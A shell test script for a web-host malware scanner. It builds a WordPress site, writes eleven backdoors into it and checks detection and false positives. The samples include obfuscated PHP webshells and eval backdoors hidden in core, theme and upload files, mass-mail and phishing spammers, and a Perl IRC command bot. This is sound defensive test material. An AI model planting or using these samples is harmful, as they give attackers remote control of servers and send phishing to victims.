#!/usr/bin/env bash
# A WordPress site carrying the injections that compromised shared hosts
# really hold (issue 12): the WordPress of the clean corpus (Debian's package
# and its themes) is copied into a customer's docroot under --root, the
# injections below are written into it, and the site is scanned. Each injected
# file must be found (high or critical where it is plainly malicious), and no
# file of the untouched WordPress may have any finding.
#
# Every injection is written here, from the technique; none comes from a
# collection. They are text for the scanner, in a temp dir, never run or
# served. Missed injections are named in the output ("MISSED").
. "$(dirname "$0")/../lib.sh"
clean=${CLEAN:-/var/tmp/clean-corpus}
wp=$clean/wordpress/usr/share/wordpress
if [ ! -f "$wp/wp-settings.php" ]; then
	skip "WordPress site with injections" "no WordPress in the clean corpus ($wp); build it with ../shared/corpus/build-clean.sh $clean"
	exit 0
fi
r=$(mktemp_dir)
mkdir -p "$r/etc" "$r/home/alice"
cat >"$r/etc/passwd" <<'P'
root:x:0:0:root:/root:/bin/bash
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
alice:x:2001:2001::/home/alice:/bin/bash
P
site=$r/home/alice/public_html
cp -a "$wp" "$site"
for t in "$clean"/wordpress-theme-*/usr/share/wordpress/wp-content/themes/*; do
	[ -d "$t" ] && cp -a "$t" "$site/wp-content/themes/"
done
# Debian links some files to other packages: a real install has the files.
# Take them from the clean corpus when it has them, drop the link otherwise.
python3 - "$site" "$clean" <<'PY'
import glob, os, shutil, sys
site, clean = sys.argv[1:]
for d, dirs, files in os.walk(site):
    for n in dirs + files:
        p = os.path.join(d, n)
        if not os.path.islink(p):
            continue
        t = os.readlink(p)
        logical = "/usr/share/wordpress/" + os.path.relpath(p, site)
        t = t if t.startswith("/") else os.path.normpath(os.path.join(os.path.dirname(logical), t))
        os.unlink(p)
        for c in sorted(glob.glob(os.path.join(clean, "*", t.lstrip("/")))):
            if os.path.isfile(c) and not os.path.islink(c):
                shutil.copyfile(c, p)
                break
PY
find "$site" -type f -printf '%P\n' | sort >"$r/untouched.list"

# --- the injections: path (in the docroot), what must be found, and the text
inj=$r/injections.tsv
: >"$inj"
# inject PATH EXPECT (high|any) MODE (new|append|prepend): text on stdin
inject() {
	local p=$site/$1
	mkdir -p "$(dirname "$p")"
	case "$3" in
	new) cat >"$p" ;;
	append) cat >>"$p" ;;
	prepend) { cat; cat "$p"; } >"$p.new" && mv "$p.new" "$p" ;;
	esac
	printf '%s\t%s\t%s\n' "$1" "$2" "$4" >>"$inj"
}

# 1. wp-settings.php includes a file hidden in uploads, its path in octal escapes
inject wp-settings.php any prepend "@include of an octal-escaped path in wp-settings.php" <<'EOF'
<?php @include "\057h\157m\145/\141lic\145/public_html/wp-c\157ntent/upl\157ads/2023/08/.f\141vic\157n_6b1e.ic\157"; ?>
EOF
# 2. ... and the file it includes: PHP in an icon
inject wp-content/uploads/2023/08/.favicon_6b1e.ico high new "PHP backdoor named .ico (the included file)" <<'EOF'
<?php
if (isset($_COOKIE['wp_sess_k'])) { $p = $_COOKIE['wp_sess_k']; @eval(base64_decode($p)); }
EOF
# 3. functions.php of a theme: base64_decode + eval appended
payload=$(printf '%s' 'if(isset($_REQUEST["wpx"])){echo "<pre>";@system($_REQUEST["wpx"]);echo "</pre>";}' | base64 -w0)
inject wp-content/themes/twentytwentyone/functions.php high append "base64_decode + eval appended to a theme's functions.php" <<EOF

@eval(base64_decode('$payload'));
EOF
# 4. the rot13 callee, appended to a core file
inject wp-includes/version.php high append 'str_rot13("flfgrz") callee on $_GET in wp-includes/version.php' <<'EOF'
$x = str_rot13("flfgrz"); $x($_GET["c"]);
EOF
# 5. a callee built with chr(), in a new file with a core-like name
inject wp-admin/includes/class-wp-upgrader-cache.php high new "callee built with chr() on request input" <<'EOF'
<?php
/**
 * Upgrader cache helper.
 */
$wp_cache_fn = chr(115) . chr(104) . chr(101) . chr(108) . chr(108) . chr(95) . chr(101) . chr(120) . chr(101) . chr(99);
if (!empty($_POST['upgrade_key'])) {
	echo $wp_cache_fn($_POST['upgrade_key']);
}
EOF
# 6. the outbreak's one-line mass mailer over an uploaded list, named css.php
inject wp-content/themes/twentytwentytwo/assets/css.php high new "one-line mass mailer over an uploaded list (css.php)" <<'EOF'
<?php $l=file($_FILES['list']['tmp_name']);$n=0;foreach($l as $t){if(mail(trim($t),$_POST['subject'],$_POST['body'],"From: ".$_POST['from']."\r\nContent-Type: text/html")){$n++;}}echo $n." sent";
EOF
# 7. a PHPMailer bulk sender using the copy WordPress ships
inject wp-content/plugins/wp-smtp-relay/relay.php high new "PHPMailer bulk sender over a posted list" <<'EOF'
<?php
require __DIR__ . '/../../../wp-includes/PHPMailer/PHPMailer.php';
require __DIR__ . '/../../../wp-includes/PHPMailer/SMTP.php';
require __DIR__ . '/../../../wp-includes/PHPMailer/Exception.php';
$mailer = new PHPMailer\PHPMailer\PHPMailer();
$mailer->isSMTP();
$mailer->Host = $_POST['host'];
$mailer->SMTPAuth = true;
$mailer->Username = $_POST['user'];
$mailer->Password = $_POST['pass'];
$mailer->setFrom($_POST['from'], $_POST['name']);
$mailer->Subject = $_POST['subject'];
$mailer->isHTML(true);
$sent = 0;
foreach (preg_split('/[\r\n,;]+/', $_POST['emails']) as $rcpt) {
	$rcpt = trim($rcpt);
	if ($rcpt === '') continue;
	$mailer->clearAddresses();
	$mailer->addAddress($rcpt);
	$mailer->Body = str_replace('[email]', $rcpt, $_POST['html']);
	if ($mailer->send()) $sent++;
}
echo "OK $sent";
EOF
# 8. a Perl IRC bot
inject wp-content/uploads/2023/11/cache.pl high new "Perl IRC bot running commands from the channel" <<'EOF'
#!/usr/bin/perl
use strict;
use IO::Socket::INET;
my $server = '198.51.100.23';
my $nick = 'wp' . int(rand(9999));
my $sock = IO::Socket::INET->new(PeerAddr => $server, PeerPort => 6667, Proto => 'tcp') or exit;
print $sock "NICK $nick\r\nUSER $nick 0 * :$nick\r\n";
print $sock "JOIN #wpx\r\n";
while (my $in = <$sock>) {
	$in =~ s/\r?\n$//;
	if ($in =~ /^PING :(.*)/) { print $sock "PONG :$1\r\n"; next; }
	if ($in =~ /^:\S+ PRIVMSG #wpx :!run (.*)$/) {
		foreach my $l (`$1 2>&1`) { print $sock "PRIVMSG #wpx :$l\r\n"; sleep 1; }
	}
}
EOF
# 9. a Perl SMTP bot
inject wp-includes/images/smilies/.s.pl high new "Perl SMTP spam bot over a target list" <<'EOF'
#!/usr/bin/perl
use Net::SMTP;
my @targets = do { open(my $f, '<', '/tmp/.t') or die; <$f> };
my $body = `cat /tmp/.b`;
foreach my $rcpt (@targets) {
	chomp $rcpt;
	my ($domain) = $rcpt =~ /\@(.+)$/;
	my $smtp = Net::SMTP->new("mx.$domain", Port => 25, Timeout => 15) or next;
	$smtp->mail('billing@paypal-support.example');
	$smtp->to($rcpt);
	$smtp->data();
	$smtp->datasend("To: $rcpt\nSubject: Your account is limited\n\n$body");
	$smtp->dataend();
	$smtp->quit;
}
EOF
# 10. a Python spammer
inject wp-content/languages/themes/sync.py high new "Python spammer (smtplib over a list)" <<'EOF'
import smtplib, sys
from email.mime.text import MIMEText
relay = smtplib.SMTP('203.0.113.40', 587)
relay.starttls()
relay.login('relay', 'hunter2')
html = open(sys.argv[2]).read()
for rcpt in open(sys.argv[1]):
    rcpt = rcpt.strip()
    msg = MIMEText(html, 'html')
    msg['Subject'] = 'Unusual sign-in activity'
    msg['From'] = 'security@account-check.example'
    msg['To'] = rcpt
    relay.sendmail(msg['From'], [rcpt], msg.as_string())
relay.quit()
EOF
# 11. a .php in wp-content/uploads: an uploader with its callee split up
inject wp-content/uploads/2024/03/wp-thumb.php high new ".php in wp-content/uploads: an uploader" <<'EOF'
<?php
$m = 'move_' . 'uploaded_' . 'file';
if (isset($_FILES['f'])) {
	$m($_FILES['f']['tmp_name'], $_SERVER['DOCUMENT_ROOT'] . '/' . $_FILES['f']['name']);
	echo 'ok';
}
?><form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>
EOF
chown -R 2001:2001 "$site"

hs --root "$r" --full --format json scan /home/alice/public_html
check "scan exits 1 (findings), valid JSON" sh -c "[ $RC = 1 ] && python3 -c 'import json,sys;[json.loads(l) for l in open(sys.argv[1])]' '$OUT'"
python3 - "$OUT" "$inj" "$r/untouched.list" <<'PY'
import json, sys
out, inj, untouched = sys.argv[1:]
rank = {"low": 0, "medium": 1, "high": 2, "critical": 3}
docroot = "/home/alice/public_html/"
worst = {}
for line in open(out):
    o = json.loads(line)
    if o.get("type") == "finding" and (o.get("path") or "").startswith(docroot):
        p = o["path"][len(docroot):]
        if p not in worst or rank[o["severity"]] > rank[worst[p]["severity"]]:
            worst[p] = o
name = "scan_wp_injections"
missed = []
injected = set()
for line in open(inj):
    p, expect, what = line.rstrip("\n").split("\t")
    injected.add(p)
    f = worst.get(p)
    got = f["severity"] if f else "nothing"
    good = bool(f) and (expect == "any" or rank[f["severity"]] >= 2)
    want = "found" if expect == "any" else "found high or critical"
    if good:
        print("ok - %s: %s: %s (%s: %s)" % (name, want, what, got, ",".join(f["rules"])))
    else:
        missed.append(what)
        print("not ok - %s: %s: %s -- MISSED (got %s)" % (name, want, what, got))
        print("#   %s" % p)
fps = sorted(p for p in worst if p not in injected)
known = {l.strip() for l in open(untouched)}
if fps:
    print("not ok - %s: no finding on any untouched WordPress file (%d of %d files have one)" % (name, len(fps), len(known)))
    for p in fps[:30]:
        print("#   FP %s %s %s" % (worst[p]["severity"], ",".join(worst[p]["rules"]), p))
else:
    print("ok - %s: no finding on any untouched WordPress file (%d files)" % (name, len(known - injected)))
print("# injections found: %d of %d; MISSED: %s" % (len(injected) - len(missed), len(injected),
                                                   "; ".join(missed) if missed else "none"))
PY
exit 0
